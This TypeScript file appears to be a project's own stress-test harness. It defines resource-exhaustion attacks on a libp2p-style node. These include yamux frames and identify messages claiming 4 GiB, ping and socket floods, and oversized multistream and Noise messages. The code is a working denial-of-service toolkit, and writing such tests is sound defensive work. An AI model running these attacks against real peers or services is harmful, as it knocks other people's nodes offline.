import { connect, type Socket } from 'node:net'
import { systemClock } from '../../../src/clock.ts'
import { prefixed } from '../../../src/protocol/frame-splitter.ts'
import type { Attack, Target } from '../attack.ts'
import { again, MEBIBYTE, open, pour } from './network.ts'

const PIECE = new Uint8Array(65_536)
/** The varint of 4 GiB - 1: the length of what follows. */
const HUGE = Uint8Array.of(0xff, 0xff, 0xff, 0xff, 0x0f)
/** Bytes of one connection. */
const MAX_SENT = 256 * MEBIBYTE

/** Heads of yamux frames: version, type, flags, stream, length (the yamux specification of hashicorp). */
const HEADS = [
  '0000000100000001ffffffff', // data that opens stream 1
  '0000000000000063ffffffff', // data on a stream that does not exist
  '0001000000000001ffffffff', // a window of 4 GiB
  '0700000000000001ffffffff' // a version that does not exist
].map((hex) => Buffer.from(hex, 'hex'))

/** A frame whose head says 4 GiB, and bytes behind it. */
export const yamuxLength: Attack = {
  name: 'yamux-length',
  async run(target, signal) {
    let sent = 0
    let turn = 0
    const connections = await again(target, signal, async ({ below }) => {
      below.send(HEADS[turn++ % HEADS.length] ?? PIECE)
      sent += await pour(below, { piece: PIECE, bytes: MAX_SENT, signal })
    })
    return `${connections} connections, ${mega(sent)} MB`
  }
}

/** Pings of yamux, each of which must be answered. */
export const yamuxPing: Attack = {
  name: 'yamux-ping',
  async run(target, signal) {
    const piece = Buffer.concat(
      Array.from({ length: 4096 }, () => Buffer.from('000200010000000000000001', 'hex'))
    )
    let sent = 0
    const connections = await again(target, signal, async ({ below }) => {
      sent += await pour(below, { piece, bytes: MAX_SENT, signal })
    })
    return `${connections} connections, ${sent / 12} pings`
  }
}

/** A line of multistream-select of 4 GiB, on the connection itself and on a stream. */
export const multistreamLength: Attack = {
  name: 'multistream-length',
  async run(target, signal) {
    let sent = 0
    const raw = sockets(target, signal, 8, async (socket) => {
      socket.write(HUGE)
      sent += await pourSocket(socket, signal)
    })
    await again(target, signal, async (hostile) => {
      const stream = await open(hostile, '/ipfs/ping/1.0.0')
      sent += await pour(stream, { piece: HUGE, bytes: 1, signal })
      sent += await pour(stream, { piece: PIECE, bytes: MAX_SENT, signal })
    })
    return `${await raw} sockets, ${mega(sent)} MB`
  }
}

/** Noise messages of the maximum length that are no handshake. */
export const noiseLength: Attack = {
  name: 'noise-length',
  async run(target, signal) {
    const hello = ['/multistream/1.0.0\n', '/noise\n'].map((line) => prefixed(Buffer.from(line)))
    let sent = 0
    const count = await sockets(target, signal, 16, async (socket) => {
      for (const line of hello) socket.write(line)
      socket.write(Uint8Array.of(0xff, 0xff))
      sent += await pourSocket(socket, signal)
    })
    return `${count} sockets, ${mega(sent)} MB`
  }
}

/** Connections on which nothing is sent. */
export const silentSockets: Attack = {
  name: 'silent-sockets',
  async run(target, signal) {
    const count = await sockets(target, signal, 128, async (socket) => await ended(socket, signal))
    return `${count} sockets`
  }
}

/** identify and identify push with a message of 4 GiB. */
export const identifySize: Attack = {
  name: 'identify-size',
  async run(target, signal) {
    let sent = 0
    // Field 2, a listen address, of 60,000 bytes, again and again; the message says it has 4 GiB.
    const field = Buffer.concat([Buffer.from('12e0d403', 'hex'), Buffer.alloc(60_000)])
    const connections = await again(
      target,
      signal,
      async (hostile) => {
        const stream = await open(hostile, '/ipfs/id/push/1.0.0')
        stream.send(HUGE)
        sent += await pour(stream, { piece: field, bytes: MAX_SENT, signal })
      },
      {
        async prepare(libp2p) {
          await libp2p.unhandle('/ipfs/id/1.0.0')
          await libp2p.handle('/ipfs/id/1.0.0', async (stream) => {
            stream.send(HUGE)
            sent += await pour(stream, { piece: field, bytes: MAX_SENT, signal })
          })
        }
      }
    )
    return `${connections} connections, ${mega(sent)} MB`
  }
}

/** The frames of queries and of the datagrams' control stream, with lengths over their limits. */
export const frameLength: Attack = {
  name: 'frame-length',
  async run(target, signal) {
    let sent = 0
    const connections = await again(target, signal, async (hostile) => {
      for (const protocol of ['/sensor/temp/v1', '/kith/dgram/v1', '/meshsub/1.1.0']) {
        const stream = await open(hostile, protocol)
        stream.send(HUGE)
        sent += await pour(stream, { piece: PIECE, bytes: MAX_SENT / 8, signal })
      }
    })
    return `${connections} connections, ${mega(sent)} MB`
  }
}

/** So many sockets at a time, each made anew when it ended. @returns how many there were */
async function sockets(
  { host, port }: Target,
  signal: AbortSignal,
  count: number,
  work: (socket: Socket) => Promise<void>
): Promise<number> {
  let made = 0
  const one = async (): Promise<void> => {
    while (!signal.aborted) {
      const socket = connect(port, host)
      socket.on('error', () => {})
      socket.resume()
      made += 1
      await work(socket).catch(() => {})
      socket.destroy()
      await systemClock.sleep(100)
    }
  }
  await Promise.all(Array.from({ length: count }, one))
  return made
}

async function pourSocket(socket: Socket, signal: AbortSignal): Promise<number> {
  let sent = 0
  while (sent < MAX_SENT && !signal.aborted && !socket.destroyed) {
    const isFree = socket.write(PIECE)
    sent += PIECE.length
    if (!isFree)
      await new Promise<void>((resolve) => {
        socket.once('drain', resolve)
        socket.once('close', resolve)
        signal.addEventListener('abort', () => resolve(), { once: true })
      })
  }
  return sent
}

async function ended(socket: Socket, signal: AbortSignal): Promise<void> {
  await new Promise<void>((resolve) => {
    socket.once('close', () => resolve())
    signal.addEventListener('abort', () => resolve(), { once: true })
  })
}

function mega(bytes: number): string {
  return (bytes / MEBIBYTE).toFixed(0)
}
